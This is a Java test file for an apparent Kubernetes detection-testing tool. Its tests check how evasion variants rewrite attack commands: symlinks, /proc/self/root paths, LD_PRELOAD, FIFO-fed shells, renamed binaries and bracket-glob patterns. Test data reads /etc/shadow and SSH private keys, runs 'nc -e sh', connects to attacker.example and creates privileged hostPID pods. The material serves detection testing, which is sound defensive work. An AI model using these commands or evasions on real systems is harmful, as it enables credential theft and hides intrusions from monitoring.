// SPDX-License-Identifier: Apache-2.0
package io.kguard.internal.tool.evasion;

import static org.assertj.core.api.Assertions.assertThat;

import io.kguard.internal.condition.syntax.ConditionParser;
import io.kguard.scenario.Scenario;
import io.kguard.scenario.ScenarioReader;
import io.kguard.scenario.Step;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Which commands an evasion applies to, and what happens to them. */
class EvasionTest {
    private static final Set<Evasion> OF_FILES = EnumSet.of(
            Evasion.RELATIVE_PATH,
            Evasion.DOTTED_PATH,
            Evasion.PROC_ROOT,
            Evasion.SYMBOLIC_LINK,
            Evasion.HARD_LINK,
            Evasion.FOLDER_LINK,
            Evasion.LINK_AND_DOTS,
            Evasion.BIND_MOUNT,
            Evasion.BUILTIN,
            Evasion.INHERITED,
            Evasion.OPEN,
            Evasion.OPENAT,
            Evasion.OPENAT2);

    @Test
    void aFileHasOtherPaths() {
        CommandLine cat = command("cat", "/etc/shadow");
        assertThat(words(Evasion.RELATIVE_PATH, cat))
                .containsExactly("sh", "-c", "cd \"$0\" && exec \"$@\"", "/etc", "cat", "shadow");
        assertThat(words(Evasion.DOTTED_PATH, cat)).containsExactly("cat", "/etc/./../etc/shadow");
        assertThat(words(Evasion.PROC_ROOT, cat)).containsExactly("cat", "/proc/self/root/etc/shadow");
        assertThat(words(Evasion.OPENAT2, cat))
                .containsExactly("/usr/bin/kguard-actor", "read-by", "openat2", "/etc/shadow");
        Rewritten link = rewrite(Evasion.SYMBOLIC_LINK, cat).orElseThrow();
        assertThat(link.preparation())
                .containsExactly(command("sh", "-c", "ln -s \"$0\" /tmp/notes.txt", "/etc/shadow"));
        assertThat(link.command()).isEqualTo(command("cat", "/tmp/notes.txt"));
    }

    @Test
    void aFolderHasOtherNames() {
        CommandLine key = command("cat", "/root/.ssh/id_rsa");
        Rewritten link = rewrite(Evasion.FOLDER_LINK, key).orElseThrow();
        assertThat(link.preparation()).containsExactly(command("sh", "-c", "ln -s \"$0\" /tmp/notes", "/root/.ssh"));
        assertThat(link.command()).isEqualTo(command("cat", "/tmp/notes/id_rsa"));
        assertThat(words(Evasion.LINK_AND_DOTS, key)).containsExactly("cat", "/tmp/notes/../.ssh/id_rsa");
        assertThat(rewrite(Evasion.LINK_AND_DOTS, command("cat", "/file"))).isEmpty();
        assertThat(words(Evasion.BUILTIN, key)).startsWith("bash", "-c").endsWith("/root/.ssh/id_rsa");
        assertThat(rewrite(Evasion.BUILTIN, command("cat", "-n", "/etc/shadow")))
                .isEmpty();
    }

    /** What is made for one step is not in the way of another. */
    @Test
    void eachStepHasFilesOfItsOwn() {
        CommandLine second = new CommandLine(List.of("cat", "/etc/shadow"), 2);
        assertThat(words(Evasion.SYMBOLIC_LINK, second)).containsExactly("cat", "/tmp/notes-2.txt");
        assertThat(words(Evasion.FOLDER_LINK, second)).containsExactly("cat", "/tmp/notes-2/shadow");
        assertThat(words(Evasion.RENAMED, second)).startsWith("/tmp/update/helper-2");
        assertThat(words(Evasion.FIFO, second).get(2)).contains("</tmp/jobs-2 ");
        assertThat(words(Evasion.ALLOWED_PROGRAM, second)).startsWith("/tmp/update-2/runc");
    }

    @Test
    void aScriptHasManyWordsBefore() {
        String padded = words(Evasion.PADDED, command("sh", "-c", "id", "x")).get(2);
        assertThat(padded).startsWith(": xxx").endsWith("; id").hasSizeGreaterThan(4096);
        assertThat(rewrite(Evasion.PADDED, command("cat", "-c", "id"))).isEmpty();
        assertThat(rewrite(Evasion.PADDED, command("sh", "-c"))).isEmpty();
    }

    @Test
    void aNameThatTheRuleLetsThroughIsThatOfTheProgramOrOfItsParent() {
        Rewritten program =
                rewrite(Evasion.ALLOWED_PROGRAM, command("cat", "/etc/shadow")).orElseThrow();
        assertThat(program.command()).isEqualTo(command("/tmp/update/runc", "/etc/shadow"));
        assertThat(words(Evasion.ALLOWED_PARENT, command("cat", "/etc/shadow")))
                .containsExactly("/tmp/update/runc", "-c", "\"$0\" \"$@\"; exit $?", "cat", "/etc/shadow");
        assertThat(rewrite(Evasion.ALLOWED_PROGRAM, command("/bin/runc", "list")))
                .isEmpty();
        assertThat(new Way(Evasion.ALLOWED_PARENT, "Run_C.1").id()).isEqualTo("allowed-parent-run-c-1");
    }

    @Test
    void aLibraryIsLoadedIntoTheFirstProgramThatTheImageHas() {
        AllowedNames names = AllowedNames.of(List.of(ConditionParser.parse("not proc.name in (one, two, three)")));
        Way way = names.ways()
                .filter(each -> each.evasion() == Evasion.PRELOADED)
                .findFirst()
                .orElseThrow();
        assertThat(way.id()).isEqualTo("preloaded");
        assertThat(way.rewrite(command("cat", "/etc/shadow"))
                        .orElseThrow()
                        .command()
                        .words())
                .containsExactly(
                        "sh",
                        "-c",
                        "for name in one two three; do program=$(command -v \"$name\") && LD_PRELOAD=/usr/lib/kguard/preload.so"
                                + " KGUARD_FILE=\"$0\" exec \"$program\"; done; exit 127",
                        "/etc/shadow");
        assertThat(way.rewrite(command("/usr/bin/kguard-actor", "read", "/etc/shadow")))
                .isPresent();
        assertThat(way.rewrite(command("head", "/etc/shadow"))).isEmpty();
        assertThat(AllowedNames.NOTHING.ways()).isEmpty();
    }

    /** Each of these names alone makes the condition false. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            fd.name = /etc/shadow and not proc.name in (cron, systemd)                          | cron systemd |
            fd.name = /etc/shadow and proc.name != sshd                                         | sshd         |
            fd.name = /etc/shadow and not (proc.name = a or proc.pname in (b, c) or user.uid=0) | a            | b c
            fd.name = /etc/shadow and not (proc.name = a and user.uid = 0)                      |              |
            not proc.name in (a, b) or not proc.name in (b, c)                                  | b            |
            not (not (not proc.pname = a))                                                      |              | a
            proc.name = cat                                                                     |              |
            not proc.name in ("a name/of a path", one, two, three)                              | one two      |
            """)
    void namesAreThoseThatARuleLetsThrough(String condition, @Nullable String programs, @Nullable String parents) {
        AllowedNames names = AllowedNames.of(List.of(ConditionParser.parse(condition)));

        assertThat(String.join(" ", names.programs())).isEqualTo(programs == null ? "" : programs);
        assertThat(String.join(" ", names.parents())).isEqualTo(parents == null ? "" : parents);
    }

    @Test
    void aShellReadsItsCommandsFromAFifo() {
        Rewritten script =
                rewrite(Evasion.FIFO, command("bash", "-c", "id >/kit")).orElseThrow();
        assertThat(script.command())
                .isEqualTo(command(
                        "sh", "-c", "\"$0\" </tmp/jobs & cat /tmp/jobs.txt >/tmp/jobs; wait $!; exit $?", "bash"));
        assertThat(script.preparation().get(0).words()).startsWith("sh", "-c").endsWith("id >/kit");
        Rewritten program =
                rewrite(Evasion.FIFO, command("echo", "it's", "a b")).orElseThrow();
        assertThat(program.command().words()).endsWith("sh");
        assertThat(program.preparation().get(0).words()).endsWith("'echo' 'it'\\''s' 'a b'");
    }

    /** What the call printed before is no proof any more. */
    @Test
    void aCallOfKubectlIsAnotherRequest() {
        Step.Kubectl create = Step.Kubectl.of("create", "-f", "-", "-n", "shop")
                .withStdin("kind: Pod\nmetadata: {name: web}\nspec: {containers: [{name: a, image: base}]}\n")
                .withOutput("created");
        VariedStep applied = request(Evasion.SERVER_SIDE_APPLY, create).orElseThrow();
        assertThat(call(applied).args())
                .containsExactly("apply", "--server-side", "--force-conflicts", "-f", "-", "-n", "shop");
        assertThat(call(applied).output()).isNull();
        assertThat(call(applied).stdin()).isEqualTo(create.stdin());
        assertThat(request(Evasion.SERVER_SIDE_APPLY, call(applied))).isEmpty();
        assertThat(request(Evasion.PATCH, create)).isEmpty();
        assertThat(call(request(Evasion.PATCH, create.withArgs(List.of("replace", "-f", "-")))
                                .orElseThrow())
                        .args())
                .containsExactly("patch", "-f", "-", "--type=merge", "-p", create.stdin());
        assertThat(request(Evasion.PATCH, create.withArgs(List.of("replace", "--force", "-f", "-"))))
                .isEmpty();
        VariedStep before = request(Evasion.INIT_CONTAINERS, create).orElseThrow();
        assertThat(call(before).stdin())
                .contains("\"initContainers\":[{\"name\":\"a\",\"image\":\"base\"}]")
                .contains("\"containers\":[{\"name\":\"main\",\"image\":\"base\",\"command\":[\"true\"]}]");
        assertThat(call(before).output()).isNull();
        for (String other :
                List.of("kind: Job", "", "kind: Pod\n---\nkind: Pod", "kind: Pod\nspec: {containers: []}", "[")) {
            assertThat(request(Evasion.INIT_CONTAINERS, create.withStdin(other)))
                    .as(other)
                    .isEmpty();
        }
    }

    @Test
    void aJobMakesThePodOfAManifestOrOfRun() {
        Step.Kubectl run = Step.Kubectl.of(
                "run",
                "debug",
                "-n",
                "shop",
                "--image=base",
                "--privileged",
                "--restart=Never",
                "--overrides={\"spec\": {\"hostPID\": true}}",
                "--",
                "id");
        VariedStep job = request(Evasion.JOB, run).orElseThrow();
        assertThat(call(job).args()).containsExactly("create", "-f", "-", "-n", "shop");
        assertThat(call(job).stdin())
                .isEqualTo(
                        "{\"apiVersion\":\"batch/v1\",\"kind\":\"Job\",\"metadata\":{\"name\":\"debug\"},"
                                + "\"spec\":{\"backoffLimit\":0,\"template\":{\"metadata\":{\"labels\":{\"run\":\"debug\"}},"
                                + "\"spec\":{\"containers\":[{\"name\":\"debug\",\"args\":[\"id\"],\"image\":\"base\","
                                + "\"securityContext\":{\"privileged\":true}}],\"restartPolicy\":\"Never\",\"hostPID\":true}}}}");
        assertThat(job.pod()).isEqualTo(new VariedStep.PodName("debug", "job/debug"));
        assertThat(request(Evasion.JOB, run.withArgs(List.of("run", "debug", "--image=base", "--rm"))))
                .isEmpty();
    }

    @Test
    void laterCallsNameWhatStandsForThePod() {
        VariedStep.PodName name = new VariedStep.PodName("debug", "job/debug");
        assertThat(name.in(Step.Kubectl.of("logs", "-f", "debug"))).hasToString("kubectl logs -f job/debug");
        assertThat(name.in(Step.Kubectl.of("exec", "pod/debug", "--", "echo", "debug")))
                .hasToString("kubectl exec job/debug -- echo debug");
        Step exec = Step.Exec.of("debug", "debug");
        assertThat(name.in(exec)).isSameAs(exec);
    }

    @Test
    void aContainerIsPutIntoAPodThatDoesNothing() {
        Step.Kubectl run =
                Step.Kubectl.of("run", "debug", "--image=base", "--privileged", "--restart=Never", "--", "id");
        VariedStep later = request(Evasion.EPHEMERAL_CONTAINER, run).orElseThrow();
        assertThat(later.preparation())
                .singleElement()
                .isInstanceOfSatisfying(
                        Step.Kubectl.class,
                        first -> assertThat(first.stdin())
                                .contains("\"command\":[\"sleep\",\"infinity\"]")
                                .contains("\"kubectl.kubernetes.io/default-container\":\"debug-debug\"")
                                .doesNotContain("privileged"));
        assertThat(call(later).args())
                .containsExactly(
                        "debug",
                        "debug",
                        "--image=base",
                        "-c",
                        "debug-debug",
                        "--attach=false",
                        "--profile=sysadmin",
                        "--",
                        "id");
        for (String option : List.of("--overrides={\"spec\": {\"hostPID\": true}}", "--env=A=b")) {
            assertThat(request(Evasion.EPHEMERAL_CONTAINER, Step.Kubectl.of("run", "debug", "--image=base", option)))
                    .as(option)
                    .isEmpty();
        }
    }

    @Test
    void aPatternIsWrittenInAnotherWay() {
        assertThat(rewrite(Evasion.OTHER_PATTERN, command("find", "/", "-name", "id_rsa*", "-o", "-name", ".ssh"))
                        .orElseThrow()
                        .command())
                .isEqualTo(command("find", "/", "-name", "id_rs[a]*", "-o", "-name", ".ss[h]"));
        assertThat(rewrite(Evasion.OTHER_PATTERN, command("grep", "-r", "BEGIN PRIVATE", "/home"))
                        .orElseThrow()
                        .command())
                .isEqualTo(command("grep", "-r", "BEGIN PRIVAT[E]", "/home"));
        assertThat(rewrite(Evasion.OTHER_PATTERN, command("grep", "-e", "a", "-e", "b", "/home"))
                        .orElseThrow()
                        .command())
                .isEqualTo(command("grep", "-e", "[a]", "-e", "[b]", "/home"));
        for (CommandLine other : List.of(
                command("grep", "-F", "key", "/home"), command("grep", "k[e]y", "/home"), command("cat", "key"))) {
            assertThat(rewrite(Evasion.OTHER_PATTERN, other))
                    .as(other.toString())
                    .isEmpty();
        }
    }

    @Test
    void aBindingGetsItsSubjectLater() {
        VariedStep later = request(
                        Evasion.LATER_SUBJECT,
                        Step.Kubectl.of(
                                "create", "rolebinding", "b", "-n", "shop", "--role=r", "--serviceaccount=shop:f"))
                .orElseThrow();
        assertThat(later.preparation())
                .singleElement()
                .isInstanceOfSatisfying(
                        Step.Kubectl.class,
                        first -> assertThat(first.args())
                                .containsExactly("create", "rolebinding", "b", "-n", "shop", "--role=r"));
        assertThat(call(later).args())
                .containsExactly("set", "subject", "rolebinding", "b", "-n", "shop", "--serviceaccount=shop:f");
        assertThat(request(Evasion.LATER_SUBJECT, Step.Kubectl.of("create", "rolebinding", "b", "--role=r")))
                .isEmpty();
        assertThat(request(Evasion.LATER_SUBJECT, Step.Kubectl.of("create", "role", "b", "--user=x")))
                .isEmpty();
    }

    /** A rule that saw the only variant prepared has seen it, unless it may have seen a pod start. */
    @Test
    @Tag("trust")
    void anAlertOnThePreparationIsNoneOnAPodThatDoesNotStart() {
        for (String pods : List.of("[]", "[{metadata: {name: web}, spec: {containers: [{name: web, image: base}]}}]")) {
            Scenario attack =
                    ScenarioReader.read("attack.yaml", """
                    scenario: attack
                    title: An attack
                    attack: [T1098.006]
                    cluster: {}
                    pods: %s
                    steps:
                      - kubectl: [create, rolebinding, b, --role=r, "--user=u"]
                      - kubectl: {args: [auth, can-i, get, pods], output: "yes"}
                    fires: [A rule]
                    """.formatted(pods)).get(0);
            Variant later = Variant.of(attack).get(0);
            List<String> rule = List.of("A rule");
            VariantResult prepared = new VariantResult(later, List.of(), rule, List.of(), rule, "", false);

            assertThat(later.way().evasion()).isEqualTo(Evasion.LATER_SUBJECT);
            assertThat(EvasionRun.ofStart(List.of(prepared)).getOrDefault("attack", Set.of()))
                    .isEqualTo(pods.equals("[]") ? Set.of() : Set.of("A rule"));
        }
    }

    private static Optional<VariedStep> request(Evasion evasion, Step.Kubectl step) {
        return evasion.rewrite(step);
    }

    private static Step.Kubectl call(VariedStep varied) {
        return (Step.Kubectl) varied.step();
    }

    @Test
    void aShellsScriptHasNoFile() {
        CommandLine script = command("sh", "-c", "cat /etc/shadow", "/etc/shadow");
        assertThat(Arrays.stream(Evasion.values()).filter(OF_FILES::contains))
                .allSatisfy(evasion -> assertThat(rewrite(evasion, script)).isEmpty());
    }

    @Test
    void onlyReadersTakeADescriptor() {
        assertThat(rewrite(Evasion.INHERITED, command("rm", "/etc/shadow"))).isEmpty();
        assertThat(words(Evasion.INHERITED, command("grep", "root", "/etc/shadow")))
                .containsExactly("sh", "-c", "exec \"$@\" <\"$0\"", "/etc/shadow", "grep", "root");
    }

    @Test
    void anActConnectsAndReadsInOtherWays() {
        CommandLine connects = command("/usr/lib/kguard/nc", "connect", "attacker.example", "443");
        assertThat(words(Evasion.MAPPED_ADDRESS, connects))
                .containsExactly("/usr/lib/kguard/nc", "connect6", "attacker.example", "443");
        assertThat(rewrite(Evasion.MAPPED_ADDRESS, command("nc", "connect", "a", "443")))
                .isEmpty();
        assertThat(words(Evasion.OPEN, command("/usr/bin/kguard-actor", "read", "/etc/shadow")))
                .containsExactly("/usr/bin/kguard-actor", "read-by", "open", "/etc/shadow");
    }

    @Test
    void aProgramRunsUnderOtherNames() {
        Rewritten renamed = rewrite(Evasion.RENAMED, command("nc", "-e", "sh")).orElseThrow();
        assertThat(renamed.command()).isEqualTo(command("/tmp/update/helper", "-e", "sh"));
        assertThat(renamed.preparation().get(0).words()).endsWith("nc").hasSize(4);
    }

    @Test
    void aSecondThreadRunsTheProgramOrMakesTheCall() {
        assertThat(words(Evasion.THREAD, command("/bin/cat", "/etc/shadow")))
                .containsExactly("/usr/bin/kguard-actor", "in-thread", "as", "cat", "/bin/cat", "/etc/shadow");
        assertThat(words(Evasion.THREAD, command("/usr/lib/kguard/nc", "connect", "attacker.example", "443")))
                .containsExactly("/usr/lib/kguard/nc", "in-thread", "connect", "attacker.example", "443");
    }

    @Test
    @Tag("trust")
    void aTextOfTheStepsOwnWordsProvesNothing() {
        assertThat(missing("command: [/usr/lib/kguard/pkexec], output: pkexec", ""))
                .contains("the words of the step themselves have the text \"pkexec\"");
        assertThat(missing("command: [sh, -c, cat /etc/shadow; echo done], output: done", ""))
                .contains("printed whatever happened");
        assertThat(missing("command: [cat, /etc/shadow]", "")).contains("no step has an output");
        assertThat(missing("command: [cat, /etc/shadow], output: 'root:'", "")).isEmpty();
        assertThat(missing(
                        "command: [/usr/lib/kguard/pkexec], output: pkexec",
                        "effects: [{file: {pod: web, path: /root/kit}}]"))
                .isEmpty();
    }

    /** Why each variant of an attack shows nothing; the reason is the same for all. */
    private static String missing(String step, String rest) {
        Scenario attack =
                ScenarioReader.read("attack.yaml", """
                        scenario: attack
                        title: An attack
                        attack: [T1003.008]
                        pods: [{metadata: {name: web}, spec: {containers: [{name: web, image: base}]}}]
                        steps: [{exec: {pod: web, %s}}]
                        fires: [A rule]
                        %s
                        """.formatted(step, rest)).get(0);
        List<Variant> variants = Variant.of(attack);
        assertThat(variants).isNotEmpty();
        assertThat(variants.stream().map(Variant::missingProof).distinct()).hasSize(1);
        return variants.get(0).missingProof();
    }

    private static List<String> words(Evasion evasion, CommandLine command) {
        return rewrite(evasion, command).orElseThrow().command().words();
    }

    private static Optional<Rewritten> rewrite(Evasion evasion, CommandLine command) {
        return evasion.rewrite(command, "runc");
    }

    private static CommandLine command(String... words) {
        return new CommandLine(List.of(words));
    }
}
